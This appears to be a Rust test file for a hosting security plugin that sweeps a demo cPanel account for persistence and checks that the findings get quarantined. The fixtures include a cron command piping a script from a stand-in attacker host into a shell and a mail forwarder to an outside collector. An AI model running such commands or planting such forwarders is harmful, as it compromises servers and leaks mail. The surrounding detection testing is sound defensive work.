//! The persistence review on the demo: the rogue cron job, the forwarder, the backdoor and the
//! bad .htaccess are found and removed (files to quarantine), kept items need a reason, and
//! clean WordPress core is not flagged.

use crate::harness::*;

/// The finding id in the review page's block that mentions `needle`.
fn finding_id(page: &str, needle: &str) -> String {
    let at = page.find(needle).unwrap_or_else(|| panic!("{needle} is not on the page"));
    let rest = &page[at..];
    let i = rest.find("name=\"id\" value=\"").expect("an id after it") + 17;
    rest[i..].split('"').next().unwrap().to_owned()
}

#[test]
fn the_rogue_cron_job_forwarder_and_backdoor_are_found_and_removed() {
    let sim = Sim::start();
    let b = sim.browser();
    let url = format!("{}?view=sweep", b.plugin_url());
    let page = b.get(&url);
    assert_eq!(page.status, 200);
    let t = page.text();
    assert!(
        t.contains("curl -s http://bad.example/k.sh | sh") && t.contains("Downloads code from the internet"),
        "{t}"
    );
    assert!(t.contains("info@demo-shop.example → collector@bad.example"));
    assert!(t.contains("public_html/wp-content/uploads/2026/11/cache-img.php"));
    assert!(t.contains("(typical spam redirect)"));
    assert!(!t.contains("owner@demo-shop.example"), "a forwarder to the account's own domain is not flagged");

    for needle in ["bad.example/k.sh", "collector@bad.example", "uploads/2026/11/cache-img.php"] {
        let id = finding_id(&b.get(&url).body, needle);
        let r = b.submit(&[("action", "remove_finding"), ("id", &id)]);
        assert_eq!(r.status, 303, "{needle}: {}", r.text());
    }
    let cron = sim.api2("Cron", "listcron", &[]);
    let cmds: Vec<&str> =
        cron["cpanelresult"]["data"].as_array().unwrap().iter().filter_map(|c| c["command"].as_str()).collect();
    assert_eq!(cmds, ["/usr/local/bin/php /home/demo/public_html/wp-cron.php"]);
    let fwd = sim.uapi("Email", "list_forwarders", &[]);
    assert!(!fwd.to_string().contains("collector@bad.example"));
    assert!(!sim.home().join("public_html/wp-content/uploads/2026/11/cache-img.php").exists());
    let quarantined =
        std::fs::read_dir(sim.home().join(".secure_reopen/quarantine/files")).unwrap().next().unwrap().unwrap().path();
    assert!(quarantined.join("public_html/wp-content/uploads/2026/11/cache-img.php").exists());
    assert_eq!(sim.audit_log().matches("\"event\":\"finding_removed\",\"result\":\"ok\"").count(), 3);
}

#[test]
fn keeping_a_finding_needs_a_reason_and_clears_it() {
    let sim = Sim::start();
    let b = sim.browser();
    let url = format!("{}?view=sweep", b.plugin_url());
    let id = finding_id(&b.get(&url).body, "wp-cron.php");
    assert_eq!(b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "")]).status, 400);
    assert_eq!(
        b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "WordPress's own scheduler")]).status,
        303
    );
    let t = b.get(&url).text();
    assert!(t.contains("Kept") && t.contains("WordPress's own scheduler"), "{t}");
    // Removing a finding that no longer exists says so.
    let r = b.submit(&[("action", "remove_finding"), ("id", "0000000000000000")]);
    assert_eq!(r.status, 409);
}

#[test]
fn clean_wordpress_core_is_not_flagged() {
    let core = std::path::Path::new("/usr/share/wordpress");
    assert!(
        core.join("wp-includes/version.php").exists(),
        "Debian's wordpress package is needed: run ./scripts/test.sh"
    );
    let home = core.parent().unwrap();
    let report = secure_reopen::sweep::files::sweep(home, &[core.to_path_buf()], &Default::default());
    assert!(report.files_seen > 1500, "too few files seen: {}", report.files_seen);
    let paths: Vec<&str> = report.findings.iter().map(|f| f.path.as_str()).collect();
    assert!(paths.is_empty(), "false positives in WordPress core: {paths:?}");
}

#[test]
fn the_review_feeds_the_checklist_until_nothing_is_left_open() {
    let sim = Sim::start();
    let b = sim.browser();
    assert!(b.plugin().text().contains("things to remove or keep on purpose"));
    let url = format!("{}?view=sweep", b.plugin_url());
    loop {
        let page = b.get(&url);
        let Some(i) = page.body.find("value=\"keep_finding\"") else { break };
        let rest = &page.body[i..];
        let j = rest.find("name=\"id\" value=\"").unwrap() + 17;
        let id = rest[j..].split('"').next().unwrap().to_owned();
        assert_eq!(
            b.submit(&[("action", "keep_finding"), ("id", &id), ("reason", "reviewed by the owner")]).status,
            303
        );
    }
    let t = b.plugin().text();
    assert!(!t.contains("things to remove or keep on purpose"), "{t}");
    assert!(b.get(&url).text().contains("Nothing left to review."));
}
